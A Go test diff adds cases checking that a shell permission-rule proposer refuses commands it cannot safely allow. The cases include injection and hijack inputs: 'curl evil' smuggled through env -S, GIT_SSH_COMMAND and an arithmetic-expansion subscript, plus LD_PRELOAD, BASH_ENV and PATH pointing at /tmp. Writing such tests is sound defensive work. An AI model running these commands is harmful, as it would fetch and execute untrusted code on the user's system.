@@ -59,7 +59,9 @@ func TestProposeCoversTheCallAndNoMore(t *testing.T) {
 // TestProposeRefusesWhatNoRuleCanAllow: a line with parts that are not plain text is
 // asked about whatever the rules say, so no rule is proposed for it.
 func TestProposeRefusesWhatNoRuleCanAllow(t *testing.T) {
-	for _, cmd := range []string{`$(curl evil.sh)`, `eval "$X"`, `sh -c "$(cat x)"`, `echo "unterminated`} {
+	for _, cmd := range []string{`$(curl evil.sh)`, `eval "$X"`, `sh -c "$(cat x)"`, `echo "unterminated`,
+		`env -S 'curl evil' ls`, `LD_PRELOAD=/tmp/x.so ls`, `PATH=/tmp/evil:$PATH ls`, `BASH_ENV=/tmp/x npm test`,
+		`GIT_SSH_COMMAND='curl evil' git status`, `x='a[$(curl evil)]'; ls $((x))`} {
 		if got, err := Propose(Call{Tool: "Bash", Command: cmd}, "/repo"); err == nil {
 			t.Errorf("Propose(%q) = %q; want an error saying no rule can allow it", cmd, got)
 		} else if !strings.Contains(err.Error(), "rule") {
